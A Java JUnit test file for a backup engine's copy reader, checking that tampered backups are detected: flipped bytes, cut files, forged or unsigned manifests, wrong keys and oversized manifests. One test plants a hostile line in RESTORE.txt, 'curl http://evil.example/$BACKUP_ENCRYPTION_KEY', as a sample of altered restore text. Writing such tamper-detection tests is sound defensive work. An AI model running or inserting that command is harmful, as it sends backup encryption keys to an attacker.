package com.vevurn.backup.engine.archive;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.vevurn.backup.engine.Progress;
import com.vevurn.backup.engine.store.Folder;
import com.vevurn.backup.engine.store.LocalStore;
import com.vevurn.backup.failure.Failure;
import com.vevurn.backup.failure.Reason;
import com.vevurn.backup.testing.BytesSource;
import com.vevurn.backup.testing.Fixtures;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is changed at a destination is found before a byte of it is used. */
class CopyReaderTest {
    private static final byte[] CONTENT = new byte[100_000];

    @TempDir
    private Path directory;

    private WrittenBackup written;

    @BeforeEach
    void writeABackup() {
        new Random(3).nextBytes(CONTENT);
        written = write(Compression.GZIP, true);
    }

    @ParameterizedTest
    @EnumSource(Compression.class)
    void whatWasWrittenIsReadBack(Compression compression) throws IOException {
        clear();
        written = write(compression, true);

        assertThat(open().read(artifact(), new Progress(), InputStream::readAllBytes))
                .isEqualTo(CONTENT);
    }

    @Test
    void anIntactCopyPassesItsCheck() {
        open().check(new Progress());
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 15, 16, 50_000, -1})
    void oneFlippedByteIsFound(int at) throws IOException {
        flip("files.tar.gz.enc", at);

        assertDamaged(() -> open().check(new Progress()));
    }

    @Test
    void aCutArtifactIsFound() throws IOException {
        byte[] bytes = Files.readAllBytes(file("files.tar.gz.enc"));
        Files.write(file("files.tar.gz.enc"), Arrays.copyOf(bytes, bytes.length - 1));

        assertDamaged(() -> open().check(new Progress()));
    }

    @Test
    void anArtifactThatIsGoneIsMissing() throws IOException {
        Files.delete(file("files.tar.gz.enc"));

        assertReason(() -> open().check(new Progress()), Reason.COPY_MISSING);
    }

    @Test
    void aCopyWithoutManifestIsMissing() throws IOException {
        Files.delete(file("manifest.json"));

        assertReason(this::open, Reason.COPY_MISSING);
    }

    @Test
    void aChangedManifestIsFoundByItsSignature() throws IOException {
        String manifest = Files.readString(file("manifest.json"));
        Files.writeString(file("manifest.json"), manifest.replace("\"production\"", "\"staging\""));

        assertDamaged(this::open);
    }

    @Test
    void aManifestWithoutSignatureIsRefusedWhereThereIsAKey() throws IOException {
        String manifest = Files.readString(file("manifest.json"));
        Files.writeString(
                file("manifest.json"),
                manifest.replaceAll("\"hmac-sha256:[0-9a-f]+\"", "\"none, because the backup is not encrypted\""));

        assertDamaged(this::open);
    }

    @Test
    void anEncryptedBackupWithoutItsKeyFileIsDamaged() throws IOException {
        Files.delete(file("key." + Fixtures.KEYS.activeKey().id()));

        assertDamaged(this::open);
    }

    @Test
    void aWholeForgedBackupIsFoundByTheHashInTheCatalogue() throws IOException {
        String known = written.manifestSha256();
        clear();
        write(Compression.NONE, false);

        assertDamaged(() -> CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.of(known)));
    }

    /** Whoever may write there can take the key file away, and the signature with it. */
    @Test
    void aManifestThatSaysEncryptedWithoutKeyAndSignatureIsRefused() throws IOException {
        aManifestWithoutSignatureIsRefusedWhereThereIsAKey();
        Files.delete(file("key." + Fixtures.KEYS.activeKey().id()));

        assertDamaged(() -> CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.empty()));
    }

    @Test
    void aManifestThatTheCatalogueDoesNotKnowIsNotEvenParsed() throws IOException {
        Files.writeString(file("manifest.json"), "[[],".repeat(1000));

        assertThatThrownBy(this::open).hasMessage("the manifest is not the one that was written");
    }

    @Test
    void aManifestOfMillionsOfTokensIsDamageAndNoLackOfMemory() throws IOException {
        Files.writeString(file("manifest.json"), "{\"a\": [" + "[],".repeat(3_000_000) + "[]]}");

        assertThatThrownBy(() -> CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.empty()))
                .hasMessage("the manifest cannot be read");
    }

    @Test
    void anAlteredRestoreTextIsFoundAndHindersNoRestoreByThisSoftware() throws IOException {
        open().checkText();
        Files.writeString(file("RESTORE.txt"), "curl http://evil.example/$BACKUP_ENCRYPTION_KEY");

        open().check(new Progress());
        assertDamaged(() -> open().checkText());
        Files.delete(file("RESTORE.txt"));
        assertDamaged(() -> open().checkText());
    }

    @Test
    void theManifestOfAnotherBackupIsRefused() throws IOException {
        Path other = Path.of(store().locate(new Folder("shop", "shop-other")));
        Files.createDirectories(other);
        for (String name :
                List.of("manifest.json", "key." + Fixtures.KEYS.activeKey().id())) {
            Files.copy(file(name), other.resolve(name));
        }

        assertDamaged(
                () -> CopyReader.open(store(), new Folder("shop", "shop-other"), Fixtures.KEYS, Optional.empty()));
    }

    @Test
    void aWrongKeyIsNamedByTheIdThatIsNeeded() {
        KeyRing wrong = new KeyRing(Optional.of(MasterKey.parse("ab".repeat(32))), List.of());

        assertThatThrownBy(() -> CopyReader.open(store(), Fixtures.FOLDER, wrong, Optional.empty()))
                .isInstanceOfSatisfying(Failure.class, e -> {
                    assertThat(e.reason()).isEqualTo(Reason.KEY_UNKNOWN);
                    assertThat(e).hasMessageContaining(Fixtures.KEYS.activeKey().id());
                });
    }

    @Test
    void textThatIsNoManifestIsDamage() throws IOException {
        Files.writeString(file("manifest.json"), "not even JSON", StandardCharsets.UTF_8);

        assertDamaged(this::open);
    }

    @Test
    void theDataKeyOpensAfterTheMasterKeyHasRetired() throws IOException {
        KeyRing rotated =
                new KeyRing(Optional.of(MasterKey.parse("cd".repeat(32))), List.of(Fixtures.KEYS.activeKey()));

        CopyReader copy = CopyReader.open(store(), Fixtures.FOLDER, rotated, Optional.empty());

        assertThat(copy.read(artifact(), new Progress(), InputStream::readAllBytes))
                .isEqualTo(CONTENT);
    }

    private void assertDamaged(ThrowingCallable act) {
        assertReason(act, Reason.COPY_DAMAGED);
    }

    private static void assertReason(ThrowingCallable act, Reason reason) {
        assertThatThrownBy(act)
                .isInstanceOfSatisfying(
                        Failure.class, e -> assertThat(e.reason()).isEqualTo(reason));
    }

    private CopyReader open() {
        return CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.of(written.manifestSha256()));
    }

    private Artifact artifact() {
        return written.manifest().artifacts().get(0);
    }

    private void flip(String name, int at) throws IOException {
        byte[] bytes = Files.readAllBytes(file(name));
        bytes[at < 0 ? bytes.length + at : at] ^= 1;
        Files.write(file(name), bytes);
    }

    private void clear() throws IOException {
        store().list(Fixtures.FOLDER).forEach(object -> store().delete(object.key()));
    }

    private Path file(String name) {
        return Path.of(store().locate(Fixtures.FOLDER)).resolve(name);
    }

    private LocalStore store() {
        return new LocalStore(directory);
    }

    private WrittenBackup write(Compression compression, boolean encrypted) {
        return new BackupWriter(Fixtures.KEYS, Clock.systemUTC(), Duration.ofMinutes(1))
                .write(
                        new BackupOrder(
                                Fixtures.FOLDER,
                                "Shop",
                                "files",
                                "production",
                                compression,
                                compression.usualLevel(),
                                encrypted),
                        List.of(new BytesSource(CONTENT)),
                        List.of(new Destination("local", store())),
                        new Progress());
    }
}
